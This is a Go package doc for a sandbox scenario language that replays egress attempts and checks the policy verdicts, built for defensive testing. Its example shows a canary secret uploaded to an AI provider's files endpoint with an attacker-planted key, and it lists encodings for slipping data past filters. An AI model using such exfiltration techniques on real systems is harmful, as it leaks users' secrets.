// Package scenario reads what is replayed: what a sandbox is given, what is attempted in
// it, and what has to come of that.
//
//	scenario "attackers-key-at-the-files-endpoint" {
//	  describe = "a file goes to the account of whoever planted the key"
//	  cases    = ["CRED-01"]
//	  given {
//	    file "notes.txt" { text = "the token is ${canary.token}" }
//	  }
//	  attempt {
//	    http {
//	      method  = "POST"
//	      url     = "https://llm.example.com/v1/files"
//	      headers = { Authorization = "Bearer planted-by-somebody" }
//	      body    = canary.token
//	    }
//	  }
//	  expect {
//	    verdict = "deny"
//	    reason  = ["path_not_granted", "foreign_credential"]
//	    leak    = none
//	  }
//	}
//
// # Names in a scenario
//
// canary.NAME is a secret of 26 letters and digits that this scenario alone has; naming it
// makes it. each.key and each.value are of the for_each of the scenario, item.key and
// item.value of the for_each of an attempt; a for_each takes a map or a list. env.NAME is
// a variable of the sandbox, put in where the attempt is made; outside is the path of a
// folder that lies beside the workspace. none is the empty list.
//
// The functions are upper, lower, reversed, hex, base64, base64url, base32, percent, gzip
// (of which the result is in base64), utf16 (too), chars, pieces(text, length),
// repeat(text, times), crlf (which ends lines as HTTP does) and json; and, in base64 for
// bytes_base64, which takes one text or a list of them one after the other: plain(text),
// question(name, type), a DNS message as TCP carries it; http2(headers, body), a request
// in frames of HTTP/2 with its preface, where headers is a list of [name, value] that are
// sent as they stand (alpn = ["h2"]).
//
// # given
//
//	file "NAME"        { text = "…"  mode = "0644" }   in the workspace; text_base64 for bytes
//	outside "NAME"     { text = "…" }                  in the folder beside it
//	link "NAME"        { to = "…" }                    a symbolic link in the workspace
//	env                = { NAME = "value" }            of the sandbox
//	credential         = { llm = canary.llm }          what the policy's credential llm is; others get canaries too
//	dns "HOST"         { answers = [["203.0.113.7"], ["127.0.0.1"]] }  in turn; ["nxdomain"] for no such name
//	certificate "HOST" { fault = "expired" }           or "self_signed", "wrong_name"
//
// # attempt
//
// Each has exactly one of these, and may have a for_each:
//
//	http { method url headers body body_base64 version follow }   version "1.1" (default) or "2"; the URL is sent as spelled;
//	                                                              a header with a list of values is sent as often
//	raw  { connect tls sni alpn bytes bytes_base64 responses }    sni "-" sends none
//	tcp  { to bytes bytes_base64 }                                raw without TLS
//	udp  { to bytes bytes_base64 }
//	icmp { to bytes bytes_base64 }
//	dns  { name type server network }                             network "udp" (default) or "tcp"
//	run  { command }                                              a list; it runs in the workspace
//	tool { name arguments }                                       all attempts of a scenario, or none
//
// # expect
//
//	verdict  "deny": something was refused, and nothing arrived but what arrives names;
//	         "allow": nothing was refused
//	reason   the reasons, one of which each refusal in the log has
//	status   of the last attempt, or a list of which it is one
//	exit     of the last command
//	output   a text, or several, that the last attempt got
//	leak     none, or the canaries that arrive: a residual risk that is known
//	bits     how much of the canaries may arrive at most: low and slow
//	arrives  ["GET https://npm.example.com/left-pad"]: what the far side received, no more and no less; * stands for anything
//	unseen   canaries that no attempt may get to see
//
// A canary that leak does not name, and that the given credentials do not put where it
// belongs, must not arrive, whatever else is expected.
//
// # Services
//
//	service "crm" {
//	  host = "crm.example.com"
//	  respond { method = "GET"  path = "/v1/*"  status = 200  headers = {}  body = "{}" }
//	}
//
// A service answers in every scenario of the files that are loaded together; what no
// respond fits gets what was received, as JSON.
//
// Guarantees: a file with a mistake, an unknown host or no expectation is reported with
// its position, and nothing of it is run.
//
// Non-guarantees: whether a command names a known host is not looked at.
package scenario
